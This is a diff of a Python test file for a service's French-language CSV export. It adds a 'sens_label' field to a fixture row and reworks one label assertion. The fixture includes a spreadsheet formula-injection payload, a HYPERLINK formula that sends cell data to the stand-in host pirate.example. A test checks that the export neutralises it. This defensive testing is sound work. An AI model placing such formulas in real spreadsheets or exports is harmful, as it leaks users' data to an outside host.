@@ -14,7 +14,7 @@ from gateway_service import exports
 INJECTED = '=HYPERLINK("http://pirate.example/?d="&A1;"Cliquez")'
 ROW = {"id": "d1", "number": "102612000000042", "procedure_code": "AM_EXPERTISE_JUD_C",
        "procedure_label": "Alsace-Moselle – consigner les provisions pour frais d'expertises judiciaires",
-       "sens": "C", "state": "VALIDATED", "state_label": "Validée",
+       "sens": "C", "sens_label": "Consignation", "state": "VALIDATED", "state_label": "Validée",
        "created_at": "2026-01-14T23:30:00+00:00",  # 15 January, 00:30 in Paris (winter)
        "submitted_at": "2026-07-01T12:05:00+00:00",  # 14:05 in Paris (summer)
        "decided_at": "2026-07-03T08:00:00+00:00", "client_name": "Société Générale d'Études",
@@ -87,7 +87,7 @@ def test_cells_in_french():
     assert exports.csv_cell(columns["amount"].read({"amount": "TOTAL"})) == "Total"
     assert exports.csv_cell(columns["amount"].read({"amount": None})) == ""
     assert exports.csv_cell(columns["decided_at"].read({"decided_at": None})) == ""
-    assert [columns["sens"].read({"sens": s}) for s in "CD"] == ["Consignation", "Déconsignation"]
+    assert columns["sens"].read(ROW) == "Consignation"  # the label demandes gives
     assert exports.csv_cell(columns["client_name"].read({"client_name": INJECTED})) == "'" + INJECTED
 
 
